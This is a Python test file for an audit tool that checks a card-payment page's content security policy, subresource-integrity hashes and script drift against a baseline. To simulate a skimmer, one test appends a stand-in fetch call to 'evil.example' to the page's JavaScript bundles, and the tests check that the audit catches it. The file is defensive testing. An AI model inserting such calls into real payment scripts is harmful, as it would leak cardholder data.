"""`panless audit`: the policy and script checks against the app, drift against a baseline, the CLI's exit codes."""

import json
import os
import re
import shutil
import subprocess
import sys
from dataclasses import replace

from panless import create_app
from panless.merchant import assets
from panless.merchant.audit import parse_csp, policy_problems
from panless.merchant.audit import run as run_audit
from panless.merchant.build import compressed
from tests.merchant.support import ROOT, SHOP
from tests.support import LiveServer, providers_on


def test_audit_passes_against_the_app_and_its_own_baseline(app_server):
    passed, report, snapshot = run_audit(app_server.url + "/pay", SHOP)
    assert passed, report
    assert "[frame]" in report and re.search(r"/static/js/frame/frame\.[0-9a-f]{12}\.js", report)
    again, report, _ = run_audit(app_server.url + "/pay", SHOP, snapshot)
    assert again and "No drift" in report, report
    alone, report, snapshot = run_audit(app_server.url + "/pay")  # no checkout origin: the report says so
    assert "[frame] not audited" in report and list(snapshot["pages"]) == ["card form"]


def test_audit_fails_after_a_script_changes(sandbox_server, tmp_path):
    """A served file altered after the page was made (a tampered file server) breaks its SRI hash; a changed
    source, once the app restarts, is served under a new name, and that is drift from the baseline."""
    static = tmp_path / "static"
    shutil.copytree(ROOT / "static", static)
    config = {**providers_on(sandbox_server.url), "ALLOWED_ORIGINS": SHOP, "STATIC_DIR": str(static)}
    server = LiveServer(create_app(config)).start()
    try:
        passed, report, baseline = run_audit(server.url + "/pay", SHOP)
        assert passed, report
        built = assets.served(str(static)).assets
        bundle = built["js/frame/page.js"]
        skimmer = bundle.body + b"\nfetch('https://evil.example');"
        built["js/frame/page.js"] = replace(bundle, body=skimmer, encoded=compressed(skimmer))
        passed, report, _ = run_audit(server.url + "/pay", SHOP, baseline)
        assert not passed
        assert f"/static/{bundle.path} does not match its SRI hash" in report
    finally:
        server.stop()
        assets.forget()
    tampered = static / "js" / "frame" / "tokenize.js"
    tampered.write_text(tampered.read_text() + "\nfetch('https://evil.example', {body: ''});\n")
    server = LiveServer(create_app(config)).start()
    try:
        passed, report, _ = run_audit(server.url + "/pay", SHOP, baseline)
        assert not passed and "does not match" not in report  # served as the page says, but not as before
        assert f"DRIFT: [card form] script /static/{bundle.path} removed" in report
        assert re.search(r"DRIFT: \[card form\] script /static/js/frame/page\.[0-9a-f]{12}\.js added", report)
        assert re.search(r"DRIFT: \[frame\] script /static/js/frame/frame\.[0-9a-f]{12}\.js added", report)
    finally:
        server.stop()
        assets.forget()


def test_audit_flags_a_weak_policy():
    weak = parse_csp("default-src 'self'; script-src 'self' 'unsafe-inline' https:; object-src *")
    problems = policy_problems(weak, None)
    assert any("unsafe-inline" in p for p in problems) and any("object-src" in p for p in problems)
    assert any("Trusted Types" in p for p in problems) and any("frame-ancestors is missing" in p for p in problems)


def test_audit_cli_exit_codes(app_server, tmp_path):
    baseline = tmp_path / "baseline.json"
    ok = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay", "--parent", SHOP,
                         "--write-baseline", str(baseline)], capture_output=True, text=True, timeout=60)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "Result: PASS" in ok.stdout and baseline.exists()
    data = json.loads(baseline.read_text())
    page_bundle = next(path for path in data["pages"]["card form"]["assets"] if "/frame/page." in path)
    data["pages"]["card form"]["assets"][page_bundle] = "sha384-old"
    baseline.write_text(json.dumps(data))
    drifted = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay", "--parent", SHOP,
                              "--baseline", str(baseline)], capture_output=True, text=True, timeout=60)
    assert drifted.returncode == 1 and "DRIFT" in drifted.stdout and "Result: FAIL" in drifted.stdout
    down = subprocess.run([sys.executable, "-m", "panless.cli", "audit", "http://127.0.0.1:9/pay"],
                          capture_output=True, text=True, timeout=60)
    assert down.returncode == 2
    # Without --parent, the frame is audited for the first configured checkout origin, however it is written.
    env = {**os.environ, "PANLESS_ALLOWED_ORIGINS": json.dumps([SHOP])}
    from_env = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay"],
                              capture_output=True, text=True, timeout=60, env=env)
    assert from_env.returncode == 0 and "[frame]" in from_env.stdout, from_env.stdout + from_env.stderr
